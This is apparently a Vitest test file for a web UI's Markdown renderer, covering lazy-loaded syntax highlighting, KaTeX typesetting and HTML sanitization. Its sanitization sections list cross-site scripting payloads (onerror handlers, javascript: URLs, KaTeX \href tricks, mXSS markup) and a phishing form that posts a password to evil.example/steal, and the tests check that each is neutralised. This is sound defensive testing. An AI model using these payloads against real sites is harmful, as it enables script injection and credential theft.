// Rendered Markdown's code highlighting and LaTeX: lazily loaded, sanitized,
// readable before they load. The tests run in file order on purpose: the
// first ones see nothing loaded yet; later ones load a language or KaTeX,
// which stays loaded for the page.
import { h, render } from "preact";
import { afterEach, describe, expect, it } from "vitest";
import { loadRich, renderMarkdown, richNeeds, sanitizeHtml, type LatexDelimiter } from "../../ui/rich/sanitize.ts";
import { useRich } from "../../ui/rich/use-rich.ts";
import { injectStyles } from "../../ui/styles.ts";
import { waitFor } from "./helpers.ts";

// The core palette (--gr-error, --gr-json-*) the rich styles build on.
injectStyles();

const parens: LatexDelimiter[] = [{ left: "\\(", right: "\\)", display: false }];
const richRequests = () => performance.getEntriesByType("resource").filter((e) => /katex|highlight[._]*js|code-render|math-render/i.test(e.name));

/** The HTML shown the way a Markdown block shows it, inside an app container. */
function show(html: string, { dark = false } = {}): HTMLElement {
  const app = document.createElement("div");
  app.className = dark ? "gradio-container dark" : "gradio-container light";
  app.innerHTML = `<div class="gr-prose">${html}</div>`;
  document.body.append(app);
  return app;
}

afterEach(() => {
  document.querySelectorAll(".gradio-container").forEach((el) => el.remove());
});

describe("rich Markdown before anything loads", () => {
  it("plain Markdown needs nothing more and loads nothing more", () => {
    const plain = "# Title\n\nSome *text*, a [link](https://example.com), a $5 bill and `$$` in code.\n\n```bash\necho $$\n```\n";
    expect(richNeeds("# Title\n\nSome *text* and a table:\n\n| a | b |\n|---|---|\n| 1 | 2 |")).toEqual([]);
    // $$ inside code is not a formula; the bash block needs its language only.
    expect(richNeeds(plain)).toEqual(["bash"]);
    expect(richNeeds("a \\(x\\) b")).toEqual([]);
    expect(richNeeds("a \\(x\\) b", { latexDelimiters: parens })).toEqual(["katex"]);
    expect(richNeeds("Area: $$\\pi r^2$$")).toEqual(["katex"]);
    expect(richNeeds("Area: $$\\pi r^2$$", { latexDelimiters: [] })).toEqual([]);
    expect(richNeeds("```py\nx\n```\n> ```ts\n> y\n> ```\n- ```sh\n  z\n  ```")).toEqual(["python", "typescript", "bash"]);
    show(renderMarkdown(plain));
    expect(richRequests()).toEqual([]);
  });

  it("renders code and formulas plain and escaped until they load", () => {
    const app = show(renderMarkdown("```python\nif a < b: print('<b>')\n```\n\nArea: $$\\pi r^2 < 1$$"));
    const code = app.querySelector("pre code")!;
    expect(code.textContent).toBe("if a < b: print('<b>')\n");
    expect(code.children).toHaveLength(0);
    expect(app.querySelector("p")!.textContent).toBe("Area: $$\\pi r^2 < 1$$");
    expect(app.querySelector(".katex")).toBeNull();
  });
});

describe("code highlighting", () => {
  it("highlights a python block with token spans once its language loads", async () => {
    const text = "```python\ndef area(r):\n    return 3.14 * r ** 2  # circle\n```";
    expect(richNeeds(text)).toEqual(["python"]);
    await loadRich(richNeeds(text));
    expect(richNeeds(text)).toEqual([]);
    // The highlighter and the language came as their own requests.
    expect(richRequests().length).toBeGreaterThan(0);
    const app = show(renderMarkdown(text));
    const code = app.querySelector("pre code.hljs.language-python")!;
    expect(code.querySelector(".hljs-keyword")!.textContent).toBe("def");
    expect(code.querySelector(".hljs-title")!.textContent).toBe("area");
    expect(code.querySelector(".hljs-number")).not.toBeNull();
    expect(code.querySelector(".hljs-comment")!.textContent).toBe("# circle");
    expect(code.textContent).toBe("def area(r):\n    return 3.14 * r ** 2  # circle\n");
    // Highlighting adds <span class> and nothing else.
    expect([...code.querySelectorAll("*")].every((el) => el.tagName === "SPAN" && [...el.attributes].every((a) => a.name === "class"))).toBe(true);
  });

  it("colours tokens from a palette that has a light and a dark side", async () => {
    await loadRich(["python"]);
    const text = "```py\nimport os\n```";
    const light = show(renderMarkdown(text)).querySelector(".hljs-keyword")!;
    const dark = show(renderMarkdown(text), { dark: true }).querySelector(".hljs-keyword")!;
    expect(getComputedStyle(light).color).toBe("rgb(207, 34, 46)");
    expect(getComputedStyle(dark).color).toBe("rgb(255, 141, 133)");
    const darkString = show(renderMarkdown("```py\nx = 'a'\n```"), { dark: true }).querySelector(".hljs-string")!;
    expect(getComputedStyle(darkString).color).toBe("rgb(74, 222, 128)");
  });

  it("leaves an unknown language plain and escaped, and loads nothing for it", async () => {
    const text = "```brainfuck\n<b onclick=\"x\">bold?</b> & ++[>+<-]\n```";
    expect(richNeeds(text)).toEqual([]);
    const code = show(renderMarkdown(text)).querySelector("pre code")!;
    expect(code.textContent).toBe('<b onclick="x">bold?</b> & ++[>+<-]\n');
    expect(code.children).toHaveLength(0);
    expect(code.className).toBe("language-brainfuck");
  });
});

describe("LaTeX", () => {
  it("typesets $$…$$ with the default delimiters once KaTeX loads", async () => {
    const text = "Area: $$\\pi r^2$$ and a block:\n\n$$\n\\begin{aligned}\na &= b \\\\\n- c &= d_1 * e_2\n\\end{aligned}\n$$\n";
    expect(richNeeds(text)).toEqual(["katex"]);
    await loadRich(["katex"]);
    expect(richNeeds(text)).toEqual([]);
    const app = show(renderMarkdown(text));
    const [inline, block] = app.querySelectorAll(".katex-display");
    expect(inline.closest("p")!.textContent).toMatch(/^Area: /);
    // The block stayed one formula: Markdown did not read "- c" as a list or "*" as emphasis.
    expect(app.querySelector("ul, em")).toBeNull();
    expect(block.querySelector(".katex-html")!.textContent!.replace(/\u200b/g, "")).toContain("d1∗e2");
    // MathML for screen readers survives sanitizing, without the TeX source read out after it.
    expect(inline.querySelector("math mrow")).not.toBeNull();
    expect(inline.querySelector(".katex-mathml")!.textContent).not.toContain("\\pi");
  });

  it("leaves the Markdown around formulas as it was", async () => {
    await loadRich(["katex"]);
    expect(renderMarkdown("`$$x$$` and `a $ b`")).toBe("<p><code>$$x$$</code> and <code>a $ b</code></p>\n");
    expect(renderMarkdown("```\n$$x$$\n```")).toBe("<pre><code>$$x$$\n</code></pre>\n");
    // A formula that opens a line but not a block stays in its paragraph.
    const app = show(renderMarkdown("Area:\n$$\\pi r^2$$ for r = 1\nnext line\n\ntext $$ unclosed"));
    const [first, second] = app.querySelectorAll("p");
    expect(first.querySelector(".katex")).not.toBeNull();
    expect(first.textContent).toMatch(/^Area:\n.* for r = 1\nnext line$/s);
    expect(second.textContent).toBe("text $$ unclosed");
  });

  it("reads \\(…\\) only when that delimiter is passed", async () => {
    await loadRich(["katex"]);
    const text = "inline \\(x^2\\) here";
    expect(show(renderMarkdown(text)).querySelector(".katex")).toBeNull();
    const app = show(renderMarkdown(text, { latexDelimiters: parens }));
    expect(app.querySelector(".katex")).not.toBeNull();
    expect(app.querySelector(".katex-display")).toBeNull();
    expect(app.querySelector("p")!.textContent).toMatch(/^inline .+ here$/);
  });

  it("shows a bad formula as its source in the error colour instead of throwing", async () => {
    await loadRich(["katex"]);
    let html = "";
    expect(() => (html = renderMarkdown("$$x^$$ and $$\\frac{1}$$ and $$\\nosuchcommand{x}$$"))).not.toThrow();
    const app = show(html);
    const errors = [...app.querySelectorAll(".katex-error")];
    expect(errors.map((e) => e.textContent)).toEqual(["x^", "\\frac{1}"]);
    expect(getComputedStyle(errors[0]).color).toBe("rgb(185, 28, 28)");
    // An unknown command is typeset as itself, in the error colour (KaTeX's non-throwing mode).
    const unknown = [...app.querySelectorAll(".katex span")].find((e) => e.textContent === "\\nosuchcommand")!;
    expect(getComputedStyle(unknown).color).toBe("rgb(185, 28, 28)");
  });

  it("loads KaTeX's fonts from our own files", async () => {
    await loadRich(["katex"]);
    const css = document.querySelector('style[data-gradio-lite="katex"]')!.textContent!;
    expect(css).not.toMatch(/url\(fonts\//);
    expect(css.match(/format\("woff2"\)/g)).toHaveLength(20);
    show(renderMarkdown("$$\\int_0^1 x\\,dx$$"));
    const faces = await document.fonts.load("16px KaTeX_Main");
    expect(faces.length).toBeGreaterThan(0);
    expect(faces.every((f) => f.status === "loaded")).toBe(true);
    expect(document.fonts.check("16px KaTeX_Main")).toBe(true);
  });
});

describe("app values stay data", () => {
  const payloads = [
    "```python\n<script>window.__xss=1</script><img src=x onerror=\"window.__xss=1\">\n```",
    "```\"><img src=x onerror=window.__xss=1>\nx\n```",
    "```javascript\n</code></pre><img src=x onerror=window.__xss=1>\n```",
    "```html\n<svg onload=window.__xss=1><a href=\"javascript:window.__xss=1\">x</a></svg>\n```",
    "$$\\href{javascript:window.__xss=1}{click}$$",
    "$$\\url{javascript:window.__xss=1}$$",
    "$$<img src=x onerror=window.__xss=1>$$",
    "$$x</span><img src=x onerror=window.__xss=1>$$",
    "$$\\htmlData{onclick=window.__xss=1}{x} \\htmlId{a}{b} \\includegraphics{javascript:x}$$",
    "$$\\text{<script>window.__xss=1</script>}$$",
    "$$\\nosuch{<img src=x onerror=window.__xss=1>}$$",
    "\\(\\href{javascript:window.__xss=1}{x}\\)",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "[x](javascript:window.__xss=1) <a href=\"javascript:window.__xss=1\">y</a>",
  ];

  it("never runs a <script>, an on* handler or a javascript: URL from code or formulas", async () => {
    await loadRich(["python", "javascript", "xml", "katex"]);
    const app = show(payloads.map((p) => renderMarkdown(p, { latexDelimiters: [...parens, { left: "$$", right: "$$", display: true }] })).join("\n"));
    await new Promise((r) => setTimeout(r, 50));
    expect((window as { __xss?: number }).__xss).toBeUndefined();
    expect(app.querySelector("script")).toBeNull();
    const all = [...app.querySelectorAll("*")];
    expect(all.filter((el) => [...el.attributes].some((a) => a.name.toLowerCase().startsWith("on")))).toEqual([]);
    const urls = all.flatMap((el) => ["href", "xlink:href", "src", "action"].map((n) => el.getAttribute(n) ?? ""));
    expect(urls.filter((u) => /^\s*javascript:/i.test(u))).toEqual([]);
    expect(app.querySelectorAll(".katex-error").length).toBeGreaterThan(0);
  });
});

describe("a value's markup stays inside its component (issue #13 item 19)", () => {
  const hostile = [
    // A label pointing at the runtime's own control ids, and ids and names in the runtime's space.
    '<label for="gr-c0">Click me</label><input id="gr-c1" name="gr-c2" aria-describedby="gr-c3 mine"><p id="mine">mine</p>',
    // A style sheet for the whole page, and a box fixed over it.
    '<style>body { display: none }</style><div style="position:fixed;inset:0;z-index:99999;background:red" id="overlay">covered</div>',
    '<div style="color: blue; position : sticky; top: 0" id="sticky">sticky</div>',
    // A form that posts what the user types to another site.
    '<form action="https://evil.example/steal" method="post"><input name="password"><button formaction="https://evil.example/b">Log in</button></form>',
  ].join("\n");

  for (const [kind, render] of [["HTML", sanitizeHtml], ["Markdown", (t: string) => renderMarkdown(t)]] as const) {
    it(`${kind}: renames ids in the runtime's space, drops <style>, forms and fixed boxes`, () => {
      const control = document.createElement("input");
      control.id = "gr-c0";
      document.body.append(control);
      const app = show(render(hostile));
      // The runtime's control keeps its label to itself.
      expect(document.querySelectorAll('label[for="gr-c0"]')).toHaveLength(0);
      expect(app.querySelector("label")!.getAttribute("for")).toBe("user-content-gr-c0");
      expect(app.querySelector("input")!.id).toBe("user-content-gr-c1");
      expect(app.querySelector("input")!.getAttribute("name")).toBe("user-content-gr-c2");
      expect(app.querySelector("input")!.getAttribute("aria-describedby")).toBe("user-content-gr-c3 mine");
      expect(document.querySelectorAll("#gr-c0")).toHaveLength(1);
      // Ids outside it stay, for the page's own scripts.
      expect(app.querySelector("#mine")!.textContent).toBe("mine");
      expect(app.querySelector("style")).toBeNull();
      expect(getComputedStyle(document.body).display).not.toBe("none");
      expect(getComputedStyle(app.querySelector("#overlay")!).position).toBe("static");
      expect(app.querySelector<HTMLElement>("#overlay")!.style.zIndex).toBe("99999");
      expect(getComputedStyle(app.querySelector("#sticky")!).position).toBe("static");
      expect(app.querySelector<HTMLElement>("#sticky")!.style.color).toBe("blue");
      expect(app.querySelector("form")).toBeNull();
      expect(app.querySelectorAll("[action], [formaction]")).toHaveLength(0);
      // What they held stays readable.
      expect(app.textContent).toContain("Log in");
      control.remove();
    });
  }
});

describe("useRich", () => {
  function Probe({ kind, text, latexDelimiters }: { kind: "markdown" | "html"; text: string; latexDelimiters?: LatexDelimiter[] }) {
    const html = useRich(kind, text, latexDelimiters && { latexDelimiters });
    return h("div", { class: "gr-prose", dangerouslySetInnerHTML: { __html: html ?? "" } });
  }

  it("renders again once the code language a text names has loaded", async () => {
    const app = show("");
    render(h(Probe, { kind: "markdown", text: "Query:\n\n```sql\nSELECT 1 FROM t\n```" }), app);
    await waitFor(() => app.querySelector("code.language-sql .hljs-keyword"));
    render(null, app);
  });

  it("passes latexDelimiters through, and still sanitizes HTML as before", async () => {
    const app = show("");
    render(h(Probe, { kind: "markdown", text: "so \\(y_1\\)", latexDelimiters: parens }), app);
    await waitFor(() => app.querySelector(".katex"));
    render(h(Probe, { kind: "html", text: '<b onclick="x()">bold</b>' }), app);
    await waitFor(() => app.querySelector("b"));
    expect(app.querySelector("b")!.hasAttribute("onclick")).toBe(false);
    render(null, app);
  });
});
